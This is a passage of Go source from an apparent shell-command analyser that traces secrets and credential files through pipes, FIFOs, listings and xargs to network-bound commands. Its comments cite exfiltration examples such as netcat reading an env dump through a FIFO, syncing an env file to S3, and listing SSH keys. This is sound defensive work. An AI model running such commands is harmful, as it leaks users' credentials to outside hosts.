			return false
		}
	}
	return true
}

// inHomeDomain reports whether host is one of the domains the tool's
// tokens are for (homeDomains), or a name under one.
func inHomeDomain(host, tool string) bool {
	for _, d := range homeDomains.Get()[tool] {
		if host == d || strings.HasSuffix(host, "."+d) {
			return true
		}
	}
	return false
}

// markTainted adds command i to tainted, the sorted list of the commands
// whose output carries a source, unless it is there already: every taint
// a command takes during the flow pass goes through it, so that a later
// stage finds its input among them.
func markTainted(tainted []int, i int) []int {
	k, found := slices.BinarySearch(tainted, i)
	if found {
		return tainted
	}
	return slices.Insert(tainted, k, i)
}

// taintedFile finds a file's taint, also by a prefix a splitter wrote.
func taintedFile(files map[string]string, p string) string {
	if s := files[p]; s != "" {
		return s
	}
	for k, s := range files {
		if strings.HasSuffix(k, "*") && strings.HasPrefix(p, strings.TrimSuffix(k, "*")) {
			return s
		}
	}
	return ""
}

// fifoWriters marks the FIFOs the line makes (mkfifo, mknod NAME p) with
// what any command writes into them: their readers run at the same time
// as their writers, so a reader started first (nc H P < /tmp/p &) still
// takes in what a later command writes (env > /tmp/p).
func (a *analysis) fifoWriters(files map[string]string, taint []string) {
	for i := range a.res.Commands {
		c := &a.res.Commands[i]
		if c.Name != "mkfifo" && (c.Name != "mknod" || len(c.Args) < 2 || c.Args[len(c.Args)-1] != "p") {
			continue
		}
		for _, fifo := range a.per[i].writes {
			for j := range a.res.Commands {
				if j == i || taint[j] == "" {
					continue
				}
				for _, p := range a.per[j].writes {
					if p == fifo {
						files[fifo] = taint[j]
					}
				}
			}
		}
	}
}

// taintedRead returns the source kind a read of p takes in: what a file
// written on the line with sensitive data holds, and, for a program that
// reads the directories it names whole (tree), any such file under p
// (env > dist/env.txt, then aws s3 sync dist/ or git add .).
func (a *analysis) taintedRead(files map[string]string, p string, tree bool) string {
	if s := taintedFile(files, p); s != "" || !tree {
		return s
	}
	dir := strings.TrimSuffix(p, "/")
	for k, s := range files {
		if len(k) > len(dir) && strings.HasPrefix(k, dir) && (k[len(dir)] == '/' || dir == "") {
			return s
		}
	}
	return ""
}

// computedRead reports whether a path read is computed by a command
// substitution.
func computedRead(reads []string) bool {
	for _, p := range reads {
		if strings.Contains(p, "$(") || strings.Contains(p, "`") {
			return true
		}
	}
	return false
}

// listers print the names of the files their words name or hold.
var listers = table.Map[string, bool]{Words: "ls find gfind fd fdfind realpath readlink echo printf tree stat"}

// cwdLister are the listers that list the working directory when given
// no operand.
var cwdLister = table.Map[string, bool]{Words: "ls find gfind tree"}

// listsOperand reports whether a lister names what it lists: find's
// starting points come first, before its expression; ls and tree take
// operands anywhere.
func listsOperand(c *shell.Command) bool {
	if c.Name == "find" || c.Name == "gfind" {
		return len(c.Args) > 0 && c.Args[0] != "" && c.Args[0][0] != '-' && c.Args[0] != "(" && c.Args[0] != "!"
	}
	for _, w := range c.Args {
		if w != "" && w[0] != '-' {
			return true
		}
	}
	return false
}

// listsSensitive reports whether one of the commands cmds (those of a
// substitution) lists credential files: a lister whose word is a credential
// path or pattern, or a directory of credentials (ls ~/.ssh/id_*, find ~
// -name credentials).
func (a *analysis) listsSensitive(cmds []int) bool {
	for _, j := range cmds {
		if j >= len(a.res.Commands) || !a.res.Commands[j].Is(listerKind) {
			continue
		}
		if a.res.Commands[j].Is(cwdListerKind) && !listsOperand(&a.res.Commands[j]) && j < len(a.cwds) && a.cwds[j] != "" && a.sensitiveDir(a.cwds[j]) {
			// cd ~/.ssh && ls: a listing of the working directory
			return true
		}
		for _, w := range a.res.Commands[j].Args {
			if w == "" || w[0] == '-' || unresolved(w) {
				continue
			}
			if w[0] != '/' && w[0] != '~' && (j >= len(a.cwds) || a.cwds[j] == "" || a.cwds[j] == a.env.Cwd) {
				continue // below the call's working directory: the project
			}
			p := a.clean(w, j)
			if a.sensitive(p) || !strings.ContainsAny(w, "*?[") && a.sensitiveDir(p) {
				return true
			}
		}
	}
	return false
}

// argsUnresolved reports whether a command's words expand a variable the
// walk could not resolve.
func argsUnresolved(c *shell.Command) bool {
	for _, w := range c.Args {
		if unresolved(w) {
			return true
		}
	}
	return false
}

// namesOnStdin reports whether a command takes the names of the files it
// reads on standard input, by its catalogue entry's names-stdin property:
// a flag among its words (cpio -o, zip -@, bundled letters too) or an
// option given - or /dev/stdin (tar -T -, rsync --files-from=-).
func (a *analysis) namesOnStdin(c *shell.Command, f *cmdFacts) bool {
	if !a.entryHas(c, f, "names-stdin") {
		return false
	}
	for _, spec := range strings.Split(f.entry.Prop("names-stdin"), ",") {
		if opt, valued := strings.CutSuffix(spec, "="); !valued {
			for _, w := range c.Args {
				if w == opt || len(opt) == 2 && len(w) > 2 && w[0] == '-' && w[1] != '-' && strings.IndexByte(w[1:], opt[1]) >= 0 {
					return true // zip -@, cpio -ov
				}
			}
		}
	}
	return slices.ContainsFunc(namesFiles(c, f.entry), stdinName)
}

// stdinName reports a file name that is the command's standard input: -,
// /dev/stdin, or a process substitution (tar -T <(find …)), which the walk
// links to the command as an earlier stage of its pipeline.
func stdinName(v string) bool {
	return v == "-" || v == "/dev/stdin" || v == "/dev/fd/0" || v == "/proc/self/fd/0" || strings.HasPrefix(v, "<(")
}

// namesFiles are the values of the options by which a command's entry
// says it takes the names of the files it reads from a file (names-stdin's
// options with a value: tar -T F, -TF, --files-from=F).
func namesFiles(c *shell.Command, e *catalog.Entry) []string {
	var out []string
	for _, spec := range strings.Split(e.Prop("names-stdin"), ",") {
		opt, valued := strings.CutSuffix(spec, "=")
		if !valued {
			continue
		}
		for k, w := range c.Args {
			switch {
			case w == opt && k+1 < len(c.Args):
				out = append(out, c.Args[k+1])
			case strings.HasPrefix(w, opt+"="):
				out = append(out, w[len(opt)+1:])
			case len(opt) == 2 && strings.HasPrefix(w, opt) && len(w) > 2:
				out = append(out, w[2:]) // -Tlist
			}
		}
	}
	return out
}

// namesSensitive reports whether text known to reach command i's standard
// input (a here-string, a file the line wrote, what echo printed) names a
// credential file, one name a line or word.
func (a *analysis) namesSensitive(texts []string, i int) bool {
	for _, t := range texts {
		for _, w := range strings.Fields(t) {
			if w[0] == '/' || w[0] == '~' || strings.HasPrefix(w, "./") || strings.HasPrefix(w, "../") {
				if a.sensitive(a.clean(w, i)) {
					return true
				}
			}
		}
	}
	return false
}

// namesFromListing reports whether a command that takes the names of the
// files it reads from a file (names-stdin's options with a value, or its
// standard input) is given one a listing of credential files wrote.
func (a *analysis) namesFromListing(c *shell.Command, f *cmdFacts, i int, listings map[string]bool) bool {
	if !a.entryHas(c, f, "names-stdin") && !viaXargs(c) {
		return false
	}
	for _, r := range c.Redirects {
		if r.Op == "<" && listings[a.clean(r.Target, i)] {
			return true
		}
	}
	if viaXargs(c) {
		// xargs -a /tmp/l cat: the xargs command the walk reports just
		// before the one it builds names the file of names
		for j := i - 1; j >= 0; j-- {
			x := &a.res.Commands[j]
			if x.Name != "xargs" || x.Pipeline != c.Pipeline || x.Stage != c.Stage {
				continue
			}
			if v := shell.XargsArgFile(x.Args); v != "" && listings[a.clean(v, j)] {
				return true
			}
			break
		}
	}
	if f.entry == nil {
		return false
	}
	for _, v := range namesFiles(c, f.entry) {
		if listings[a.clean(v, i)] {
			return true
		}
	}
	return false
}

// namesFromFile reports whether a command takes the names of the files it
// reads from a file its words name (tar -T list, rsync --files-from=l),
// not from its standard input: which files, nobody here can tell.
func (a *analysis) namesFromFile(c *shell.Command, f *cmdFacts) bool {
	if !a.entryHas(c, f, "names-stdin") {
		return false
	}
	return slices.ContainsFunc(namesFiles(c, f.entry), func(v string) bool { return v != "" && !stdinName(v) })
}

// stagesList reports whether the commands cmds (earlier stages of a
// pipeline) print the names of credential files: a lister of them
// (listsSensitive), or a stage printing a file a listing of them was
// written to on the line (sort /tmp/l, cat /tmp/l after find ~/.ssh -type
// f > /tmp/l), whose lines are those names.
func (a *analysis) stagesList(cmds []int, listings map[string]bool) bool {
	if a.listsSensitive(cmds) {
		return true
	}
	if len(listings) == 0 {
		return false
	}
	for _, j := range cmds {
		if !passesValue.Get(a.res.Commands[j].Name) {
			continue
		}
		for _, p := range a.per[j].reads {
			if listings[p] {
				return true
			}
		}
	}
	return false
}

// earlierStages appends to out the commands of command i's pipeline that
// come before it.
func (a *analysis) earlierStages(i int, out []int) []int {
	c := &a.res.Commands[i]
	for j := range a.res.Commands[:i] {
		if a.res.Commands[j].Pipeline == c.Pipeline && a.res.Commands[j].Stage < c.Stage {
			out = append(out, j)
		}
	}
	return out
}

func viaXargs(c *shell.Command) bool {
	for _, v := range c.Via {
		if v == "xargs" || v == "parallel" {
			return true
		}
	}
	return false
}

// notDomains are file extensions that a dotted word ends with more often
// than a domain does.
var notDomains = table.Map[string, bool]{Build: func() map[string]bool {
	return map[string]bool{"txt": true, "json": true, "yaml": true, "yml": true, "md": true, "log": true, "sh": true,
		"py": true, "js": true, "ts": true, "go": true, "c": true, "h": true, "csv": true, "xml": true, "html": true, "conf": true,
		"cfg": true, "ini": true, "env": true, "gz": true, "tgz": true, "zip": true, "tar": true, "bak": true, "out": true,
		"pem": true, "key": true, "crt": true, "sql": true, "db": true, "lock": true, "toml": true, "rs": true, "rb": true,
		"java": true, "jar": true, "pdf": true, "png": true, "jpg": true, "tmp": true, "d": true, "so": true, "whl": true,
		// keychains, key stores and disk or package images: files a local
		// tool opens (security import -k build.keychain, hdiutil attach
		// App.dmg), no top-level domain
		"keychain": true, "keychain-db": true, "p12": true, "pfx": true, "jks": true, "keystore": true, "kdbx": true,
		"plist": true, "dmg": true, "mobileprovision": true, "provisionprofile": true, "img": true, "iso": true,
		"qcow2": true, "vmdk": true, "vdi": true, "ko": true, "dylib": true, "dll": true, "exe": true, "deb": true,
		"rpm": true, "pcap": true, "pcapng": true, "ovpn": true, "sqlite": true, "sqlite3": true, "der": true}
}}

// remoteWords finds the words of a command that name another host: URLs,
// user@host and host:path specs, and dotted names that end in a
// domain-like label.
func remoteWords(c *shell.Command) []string {
	var out []string
	args := c.Args
	if catalog.IsPython(c.Name) {
		if _, rest, ok := catalog.PythonModule(args); ok {
			args = rest // python3 -m json.tool: a module, not a host
		}
	}
	for _, w := range args {
		if strings.HasPrefix(w, "-") || unresolved(w) {
			if i := strings.IndexByte(w, '='); i > 0 && strings.HasPrefix(w, "-") {
				w = w[i+1:]
			} else {
				continue
			}
		}
		switch {
		case strings.Contains(w, "://") && !strings.HasPrefix(w, "file://"):
			out = append(out, w)
		case strings.HasPrefix(w, "//"):
			out = append(out, "smb:"+w)
		default:
			h := w
			if at := strings.LastIndexByte(h, '@'); at >= 0 {
				h = h[at+1:]
			}
			if k := strings.IndexAny(h, ":/"); k >= 0 {
				h = h[:k]
			}
			if dottedHost(h) {
				out = append(out, h)
			}
		}
	}
	return out
}

// secretHosts adds to hosts the host of each word that expands a secret
// variable, with the variable read as a plain label, and reports whether a
// secret is part of a host name (which travels as a DNS query).
func secretHosts(c *shell.Command, hosts []string) ([]string, bool) {
	inHost := false
	for _, w := range c.Args {
		if !strings.Contains(w, "$") || secretVar(&shell.Command{Args: []string{w}}) == "" {
			continue
		}
		if i := strings.IndexByte(w, '='); i > 0 && strings.HasPrefix(w, "-") {
			w = w[i+1:]
		}
		plain := varsAsLabels(w)
		found := remoteWords(&shell.Command{Args: []string{plain}})
		if len(found) == 0 {
			continue
		}
		hosts = append(hosts, found...)
		h := plain
		if k := strings.Index(h, "://"); k >= 0 {
			h = h[k+3:]
		}
		if at := strings.LastIndexByte(h, '@'); at >= 0 {
			h = h[at+1:]
		}
		if k := strings.IndexAny(h, ":/?"); k >= 0 {
			h = h[:k]
		}
		inHost = inHost || strings.Contains(h, "SECRETLABEL")
	}
	return hosts, inHost
}

// varsAsLabels replaces each $NAME and ${NAME} of a word by a plain label.
func varsAsLabels(w string) string {
	var b strings.Builder
	for i := 0; i < len(w); i++ {
		if w[i] != '$' {
			b.WriteByte(w[i])
			continue
		}
		j := i + 1
		if j < len(w) && w[j] == '{' {
			if k := strings.IndexByte(w[j:], '}'); k > 0 {
				b.WriteString("SECRETLABEL")
				i = j + k
				continue
			}
		}
		k := j
		for k < len(w) && nameByte(w[k]) {
			k++
		}
		b.WriteString("SECRETLABEL")
		i = k - 1
	}
	return b.String()
}

// dottedHost reports whether a bare word is shaped like a host name: dotted,
// of a host name's characters, and ending in a label that can be a
// top-level domain or an IPv4 address's last number.
func dottedHost(h string) bool {
	if strings.Count(h, ".") < 1 || strings.HasPrefix(h, ".") || strings.HasSuffix(h, ".") {
		return false
	}
	last := h[strings.LastIndexByte(h, '.')+1:]
	if notDomains.Get(strings.ToLower(last)) || mixedLabel(last) {
		return false
	}
	for i := 0; i < len(h); i++ {
		c := h[i]
		if !(c == '.' || c == '-' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

// authenticates reports whether a command logs in with what it reads
// (docker login --password-stdin, helm registry login).
func (a *analysis) authenticates(c *shell.Command) bool {
	for _, w := range c.Args {
		if w == "--password-stdin" || w == "--token-stdin" {
			return true
		}
	}
	// A login subcommand (docker login, helm registry login), not the word
	// "login" anywhere (nc host 80 login).
	e, _ := a.cat.Lookup(c.Name, c.Args)
	return e != nil && strings.HasSuffix(e.Name, " login")
}

// entryHas reports whether the catalogue entry of a command (program and
// subcommand) has a property. The entry is the one the command's
// classification found when that was of its own name and words (command),
// else looked up here once; f keeps it.
func (a *analysis) entryHas(c *shell.Command, f *cmdFacts, prop string) bool {
	if !f.looked {
		f.entry, _ = a.cat.Lookup(c.Name, c.Args)
		f.looked = true
	}
	return f.entry.Has(prop)
}

// writesStdout reports a command whose output file is "-": standard output.
func writesStdout(cl *catalog.Classified) bool {
	for _, w := range cl.Words {
		if (w.Role == catalog.Write || w.Role == catalog.Dest) && (w.Text == "-" || stdoutPath(w.Text)) {
			return true
		}
	}
	return false
}

// stdoutPath reports a path that names standard output.
func stdoutPath(p string) bool {
	switch p {
	case "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1":
		return true
	}
	return false
}

// xtraceBefore reports whether an earlier command of the line turns on the
// shell's trace (set -x, set -ax, set -o xtrace), which prints every later
// command's words, their variables expanded, to the terminal.
func xtraceBefore(res *shell.Result, i int) bool {
	for k := 0; k < i && k < len(res.Commands); k++ {
		o := &res.Commands[k]
		if o.Name != "set" || len(o.Via) > 0 {
			continue
		}
		for j, w := range o.Args {
			if w == "--" {
				break
			}
			if len(w) > 1 && w[0] == '-' && w[1] != '-' && w[1] != 'o' && strings.Contains(w[1:], "x") {
				return true
			}
			if w == "-o" && j+1 < len(o.Args) && o.Args[j+1] == "xtrace" {
				return true
			}
		}
	}
	return false
}

// fedBySecretListing reports a command whose operands come from another
// command of the same program on the line that names secrets (args, its
// entry's source-args): through xargs from an earlier stage, or through a
// variable (a loop over the listing's names). The names it is fed are
// the secrets'.
func (a *analysis) fedBySecretListing(i int, c *shell.Command, args string) bool {
	xargs := slices.Contains(c.Via, "xargs")
	variable := false
	for _, w := range c.Args {
		variable = variable || !strings.HasPrefix(w, "-") && strings.ContainsAny(w, "$`")
	}
	if !xargs && !variable {
		return false
	}
	for k := range a.res.Commands {
		o := &a.res.Commands[k]
		if k == i || o.Name != c.Name {
			continue
		}
		if xargs && !(o.Pipeline == c.Pipeline && o.Stage < c.Stage) && !variable {
			continue
		}
		for _, w := range o.Args {
			if !strings.HasPrefix(w, "-") && matchesAny(w, args) {
				return true
			}
		}
	}
	return false
}

// shellText reports a shell given a command string (sh -c, bash -lc),
// whose commands the walk reads as commands of the line.
func shellText(c *shell.Command) bool {
	switch c.Name {
	case "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "posh":
	default:
		return false
	}
	for _, w := range c.Args {
		if len(w) > 1 && w[0] == '-' && w[1] != '-' && strings.IndexByte(w, 'c') > 0 {
			return true
		}
	}
	return false
}

// refExpands reports whether a git push's words expand a variable in a
// ref (HEAD:"$NPM_TOKEN") rather than in the remote's address, where a
// token is the push's own login (https://x-access-token:$GITHUB_TOKEN@…).
func refExpands(args []string) bool {
	for _, w := range args {
		if strings.Contains(w, "$") && !strings.HasPrefix(w, "-") && !strings.Contains(w, "://") && !strings.Contains(w, "@") {
			return true
		}
	}
	return false
}

// subArgs is the part of a command's arguments that its subcommand's
// entry (named "PROGRAM SUB...") reads: those after the subcommand's
// word, past the program's own options before it (cmake -E environment:
// none). A program's own entry reads them all.
func subArgs(args []string, name string) []string {
	k := strings.LastIndexByte(name, ' ')
	if k < 0 {
		return args
	}
	for i, a := range args {
		if a == name[k+1:] {
			return args[i+1:]
		}
	}
	return args
}

// mixedLabel reports a label of letters and digits together that is no
// IDN's ASCII form (xn--p1ai): no top-level domain is spelled so, while
// identifiers are (a translation service's project id 3829104.ab12, a
// build's x86 or mp4 suffix).
func mixedLabel(l string) bool {
	if strings.HasPrefix(strings.ToLower(l), "xn--") {
		return false
	}
	letter, digit := false, false
	for i := 0; i < len(l); i++ {
		c := l[i]
		letter = letter || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
		digit = digit || c >= '0' && c <= '9'
	}
	return letter && digit
}
